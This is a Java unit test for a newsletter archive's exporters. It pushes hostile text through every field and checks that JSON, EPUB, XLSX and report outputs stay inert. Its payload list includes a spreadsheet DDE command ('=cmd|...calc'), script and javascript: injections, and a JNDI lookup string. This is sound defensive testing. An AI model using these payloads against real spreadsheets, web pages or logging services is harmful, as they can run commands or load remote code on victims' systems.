package org.kicnews.exporter;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.nio.ByteBuffer;
import java.nio.charset.CharacterCodingException;
import java.nio.charset.StandardCharsets;
import java.time.LocalDate;
import java.util.ArrayList;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Optional;
import java.util.TreeMap;
import java.util.regex.Pattern;
import java.util.stream.Stream;
import java.util.zip.ZipEntry;
import java.util.zip.ZipInputStream;
import javax.xml.parsers.DocumentBuilder;
import javax.xml.parsers.DocumentBuilderFactory;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import org.kicnews.core.finding.Finding;
import org.kicnews.core.finding.FindingCode;
import org.kicnews.core.finding.Place;
import org.kicnews.core.ledger.Ledger;
import org.kicnews.core.model.Article;
import org.kicnews.core.model.Furniture;
import org.kicnews.core.model.Issue;
import org.kicnews.core.model.Masthead;
import org.kicnews.core.model.Section;
import org.kicnews.core.model.Series;
import org.kicnews.core.model.SourceFile;
import org.kicnews.core.model.Subsection;
import org.kicnews.core.spi.ArchiveExporter;
import org.kicnews.exporter.epub.EpubExporter;
import org.kicnews.exporter.fixture.Blocks;
import org.kicnews.exporter.fixture.Marks;
import org.kicnews.exporter.fixture.MemoryFolder;
import org.kicnews.exporter.fixture.SampleIssues;
import org.kicnews.exporter.json.JsonExporter;
import org.kicnews.exporter.report.ReportExporter;
import org.kicnews.exporter.xlsx.XlsxExporter;
import org.w3c.dom.Attr;
import org.w3c.dom.Document;
import org.w3c.dom.Element;
import org.w3c.dom.NamedNodeMap;
import org.w3c.dom.NodeList;
import org.xml.sax.ErrorHandler;
import org.xml.sax.SAXException;
import org.xml.sax.SAXParseException;
import tools.jackson.databind.json.JsonMapper;

/** Whatever a newsletter says in its titles, captions, names and links, no output lets it do anything. */
class HostileTextTest {
    private static final List<String> HOSTILE = List.of(
            "=cmd|' /C calc'!A0",
            "+1+1",
            "-2+3",
            "@SUM(A1)",
            "＝1+1",
            "<script>alert(1)</script>",
            "]]> <!-- --> <?php ?> <!DOCTYPE x>",
            "& &amp; &#0; &lt; < > \" '",
            "javascript:alert(1)",
            "right\u202Eto left\u2066 and \u200F back",
            "nul \u0000 bell \u0007 escape \u001b[31m",
            "lone \uD800 and \uDC00 surrogates \uFFFF \uFFFE",
            "{\"json\": [1,",
            "${jndi:ldap://192.0.2.1/a} #{7*7} {{7*7}}");

    /** What a spreadsheet takes for a formula at the beginning of a field. */
    private static final Pattern FORMULA = Pattern.compile("(?m)(?:^|,)\"?[=+@＝-]");

    static Stream<ArchiveExporter> exporters() {
        return Stream.of(new JsonExporter(), new EpubExporter(), new XlsxExporter(), new ReportExporter());
    }

    @ParameterizedTest
    @MethodSource("exporters")
    void noOutputIsBrokenOrSetInMotion(ArchiveExporter exporter) throws Exception {
        for (Map.Entry<String, byte[]> file : files(exporter).entrySet()) {
            String name = file.getKey();
            if (name.matches(".*\\.(xml|xhtml|html|opf|ncx|rels|svg)$")) {
                assertThatXmlIsHarmless(name, file.getValue());
            } else if (name.endsWith(".csv")) {
                assertThat(utf8(file.getValue()).substring(1)).as(name).doesNotContainPattern(FORMULA);
            } else if (name.matches(".*\\.(json|sarif|jsonld)$")) {
                JsonMapper.shared().readTree(utf8(file.getValue()));
            } else if (name.endsWith(".jsonl")) {
                utf8(file.getValue()).lines().forEach(JsonMapper.shared()::readTree);
            } else if (!name.matches(".*\\.(png|jpg|gif)$")) {
                assertThat(utf8(file.getValue())).as(name).doesNotContain("\u0000");
            }
        }
    }

    /** All files, those in containers included. */
    private static Map<String, byte[]> files(ArchiveExporter exporter) throws IOException {
        MemoryFolder folder = MemoryFolder.of(
                exporter,
                SampleIssues.archive(),
                List.of(hostileIssue()),
                List.of(Finding.of(FindingCode.FILE_DAMAGED, Place.file(String.join("/", HOSTILE)), HOSTILE.get(0))));
        Map<String, byte[]> files = new TreeMap<>();
        for (Map.Entry<String, byte[]> file : folder.files().entrySet()) {
            if (file.getValue()[0] == 'P' && file.getValue()[1] == 'K') {
                try (ZipInputStream zip = new ZipInputStream(new ByteArrayInputStream(file.getValue()))) {
                    for (ZipEntry entry = zip.getNextEntry(); entry != null; entry = zip.getNextEntry()) {
                        files.put(file.getKey() + "!" + entry.getName(), zip.readAllBytes());
                    }
                }
            } else {
                files.put(file.getKey(), file.getValue());
            }
        }
        return files;
    }

    private static void assertThatXmlIsHarmless(String name, byte[] xml) throws Exception {
        DocumentBuilderFactory factory = DocumentBuilderFactory.newInstance();
        factory.setNamespaceAware(true);
        factory.setFeature("http://apache.org/xml/features/nonvalidating/load-external-dtd", false);
        DocumentBuilder builder = factory.newDocumentBuilder();
        builder.setErrorHandler(new Strict());
        Document document = builder.parse(new ByteArrayInputStream(utf8(xml).getBytes(StandardCharsets.UTF_8)));
        NodeList elements = document.getElementsByTagNameNS("*", "*");
        for (int i = 0; i < elements.getLength(); i++) {
            Element element = (Element) elements.item(i);
            NamedNodeMap attributes = element.getAttributes();
            for (int a = 0; a < attributes.getLength(); a++) {
                Attr attribute = (Attr) attributes.item(a);
                if (attribute.getLocalName() != null
                        && attribute.getLocalName().matches("href|src|Target|action|data")) {
                    assertThat(attribute.getValue().strip().toLowerCase(Locale.ROOT))
                            .as(name)
                            .doesNotStartWith("javascript:");
                }
                assertThat(attribute.getName()).as(name).doesNotStartWith("on");
            }
            if (name.contains(".xlsx!xl/worksheets/")) {
                assertThat(element.getLocalName()).as(name).isNotEqualTo("f");
            }
            if (element.getLocalName().equals("script")) {
                assertThat(element.getTextContent()).as(name).doesNotContain("alert(1)");
            }
        }
    }

    /** Decoded without mercy: a lone surrogate is none of UTF-8. */
    private static String utf8(byte[] bytes) throws CharacterCodingException {
        return StandardCharsets.UTF_8
                .newDecoder()
                .decode(ByteBuffer.wrap(bytes))
                .toString();
    }

    private static Issue hostileIssue() {
        List<Section> sections = new ArrayList<>();
        for (int i = 0; i < HOSTILE.size(); i++) {
            String text = HOSTILE.get(i);
            sections.add(new Section(
                    Optional.of(text),
                    Optional.empty(),
                    Optional.of(text),
                    Optional.of(1),
                    Blocks.from(1).paragraph(text).list(),
                    List.of(article("7-" + (i + 1) + "-1", text))));
        }
        return new Issue(
                "7",
                Optional.of(7),
                Optional.of(LocalDate.of(2020, 1, 1)),
                "ko",
                List.of(new SourceFile(
                        String.join("/", HOSTILE),
                        "0".repeat(64),
                        1,
                        "pdf",
                        Optional.of(1),
                        Optional.of(HOSTILE.get(5)))),
                new Masthead(
                        Optional.of(HOSTILE.get(5)),
                        Optional.of(HOSTILE.get(0)),
                        Optional.of(7),
                        Optional.empty(),
                        Optional.of(HOSTILE.get(9)),
                        Optional.of(HOSTILE.get(10)),
                        Optional.of(HOSTILE.get(11)),
                        Optional.of(HOSTILE.get(8)),
                        Optional.of(HOSTILE.get(6)),
                        HOSTILE),
                List.of(),
                sections,
                List.of(new Furniture(Furniture.Kind.BOX, String.join(" ", HOSTILE), List.of(1), 1, 0)),
                new Ledger(1, 0, List.of(new Ledger.Entry(Ledger.Destination.ARTICLE, 1, 0)), HOSTILE.get(9), ""),
                HOSTILE.stream()
                        .map(text -> Finding.of(FindingCode.TOC_TITLE_DIFFERS, Place.article("7-1-1"), text, text)
                                .withFile(text))
                        .toList());
    }

    private static Article article(String id, String text) {
        String linked = "a link";
        return new Article(
                id,
                Optional.of(1),
                Optional.of(text),
                Optional.of(text),
                List.of(),
                Optional.of(text),
                Optional.of(LocalDate.of(2020, 1, 1)),
                Optional.of(text),
                Optional.of(new Series(text, Optional.of(1))),
                Optional.of(new Subsection(text, text)),
                Optional.of(text),
                Optional.empty(),
                Blocks.from(1)
                        .paragraph(linked, Marks.in(linked).link(linked, text))
                        .heading(1, text)
                        .item(1, text, text)
                        .captionAlone(text)
                        .tableAlone(1, List.of(List.of(text, text), List.of(text, text)))
                        .note(text, text)
                        .list());
    }

    /** Says nothing on the console. */
    private static final class Strict implements ErrorHandler {
        @Override
        public void warning(SAXParseException exception) throws SAXException {
            throw exception;
        }

        @Override
        public void error(SAXParseException exception) throws SAXException {
            throw exception;
        }

        @Override
        public void fatalError(SAXParseException exception) throws SAXException {
            throw exception;
        }
    }
}
